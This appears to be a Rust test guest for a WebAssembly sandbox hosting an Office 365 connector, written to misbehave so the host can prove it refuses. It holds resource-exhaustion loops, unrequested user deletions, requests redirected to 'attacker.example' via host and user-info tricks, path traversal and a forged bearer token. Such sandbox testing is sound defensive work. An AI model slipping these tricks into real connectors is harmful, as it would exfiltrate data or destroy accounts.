//! A guest that misbehaves, to show that the sandbox stops it. What it does is
//! chosen by the service id, which the connector itself would refuse.

#![allow(
    missing_docs,
    clippy::unwrap_used,
    clippy::panic,
    reason = "a guest that misbehaves may well panic"
)]

#[allow(clippy::all, clippy::restriction, reason = "generated code")]
mod bindings {
    wit_bindgen::generate!({
        path: "../wit",
        inline: "
            package test:hostile;
            // The connector's world with one of its interfaces: enough to misbehave in.
            world hostile {
                import wasi:http/outgoing-handler@0.2.3;
                import wasi:clocks/monotonic-clock@0.2.3;
                import connector:office365/connections@1.0.0;
                export connector:office365/accounts@1.0.0;
            }
        ",
        generate_all,
    });
}

mod dump;

use bindings::connector::office365::types::Error;
use bindings::exports::connector::office365::accounts::{
    Account, AssignLicenseToExistingUserInput, CreateUserInput, DeleteUserInput, Guest,
    LicenseInput,
};
use bindings::wasi::clocks::monotonic_clock;
use bindings::wasi::http::outgoing_handler;
use bindings::wasi::http::types::{
    Fields, IncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
};

const GRAPH: &str = "graph.microsoft.com";

struct Hostile;

impl Guest for Hostile {
    fn is_license_available(input: LicenseInput) -> Result<bool, Error> {
        if input.service_id == "dump" {
            return Err(dump::told(&dump::after_a_request(&input.connection_id)));
        }
        misbehave(&input.service_id);
        Ok(true)
    }

    fn get_available_license_count(input: LicenseInput) -> Result<u32, Error> {
        misbehave(&input.service_id);
        Ok(0)
    }

    fn create_user(_: CreateUserInput) -> Result<Account, Error> {
        unreachable!()
    }

    fn assign_license_to_existing_user(
        _: AssignLicenseToExistingUserInput,
    ) -> Result<Account, Error> {
        unreachable!()
    }

    fn delete_user(_: DeleteUserInput) -> Result<(), Error> {
        unreachable!()
    }
}

fn misbehave(how: &str) {
    match how {
        "loop" => loop {
            std::hint::black_box(());
        },
        "sleep" => monotonic_clock::subscribe_duration(u64::MAX).block(),
        "memory" => allocate(),
        "recursion" => {
            std::hint::black_box(recurse(std::hint::black_box(0)));
        }
        "handles" => hold_handles(),
        "panic" => panic!("the guest panics"),
        "undeclared-call" => {
            send(&request(Method::Delete, "/v1.0/users/allen@contoso.onmicrosoft.com"));
        }
        "ignored-refusal" => {
            let request = request(Method::Delete, "/v1.0/users/allen@contoso.onmicrosoft.com");
            let pending = outgoing_handler::handle(request.take(), None);
            // Goes on as if nothing had happened, and returns a result.
            std::mem::forget(pending);
            monotonic_clock::subscribe_duration(1).block();
        }
        "other-host" => {
            let request = request(Method::Get, "/v1.0/subscribedSkus");
            request.set_authority("attacker.example");
            send(&request);
        }
        "plain-http" => {
            let request = request(Method::Get, "/v1.0/subscribedSkus");
            request.set_scheme(Scheme::Http);
            send(&request);
        }
        "user-info" => {
            let request = request(Method::Get, "/v1.0/subscribedSkus");
            request.set_authority("graph.microsoft.com@attacker.example");
            send(&request);
        }
        "path-trick" => send(&request(Method::Get, "/v1.0/subscribedSkus/../users")),
        "authorization" => {
            let refused = Fields::new().append("authorization", b"Bearer stolen").is_err();
            assert!(refused, "a guest can set the authorization header");
        }
        "huge-request" => send_huge(),
        other => panic!("unknown misbehaviour {other}"),
    }
}

fn allocate() {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        kept.push(std::hint::black_box(vec![1; 1 << 20]));
    }
}

#[expect(unconditional_recursion, reason = "that is what it is for")]
fn recurse(depth: u64) -> u64 {
    std::hint::black_box(recurse(std::hint::black_box(depth + 1)) + depth)
}

fn hold_handles() {
    let mut kept = Vec::new();
    loop {
        kept.push(Fields::new());
    }
}

/// A request to Graph that can still be changed.
struct Request(std::cell::RefCell<Option<OutgoingRequest>>);

impl Request {
    fn take(&self) -> OutgoingRequest {
        self.0.borrow_mut().take().unwrap()
    }

    fn set_authority(&self, authority: &str) {
        self.0.borrow().as_ref().unwrap().set_authority(Some(authority)).unwrap();
    }

    fn set_scheme(&self, scheme: Scheme) {
        self.0.borrow().as_ref().unwrap().set_scheme(Some(&scheme)).unwrap();
    }
}

fn request(method: Method, path: &str) -> Request {
    let request = OutgoingRequest::new(Fields::new());
    request.set_method(&method).unwrap();
    request.set_scheme(Some(&Scheme::Https)).unwrap();
    request.set_authority(Some(GRAPH)).unwrap();
    request.set_path_with_query(Some(path)).unwrap();
    Request(std::cell::RefCell::new(Some(request)))
}

fn send(request: &Request) {
    await_answer(request.take());
}

fn await_answer(request: OutgoingRequest) -> Option<IncomingResponse> {
    let pending = outgoing_handler::handle(request, None).ok()?;
    pending.subscribe().block();
    pending.get()?.ok()?.ok()
}

fn send_huge() {
    let request = request(Method::Get, "/v1.0/subscribedSkus").take();
    let body = request.body().unwrap();
    let pending = outgoing_handler::handle(request, None).unwrap();
    let stream = body.write().unwrap();
    let chunk = vec![b'x'; 4096];
    for _ in 0..4096 {
        if stream.blocking_write_and_flush(&chunk).is_err() {
            break;
        }
    }
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    pending.subscribe().block();
}

bindings::export!(Hostile with_types_in bindings);
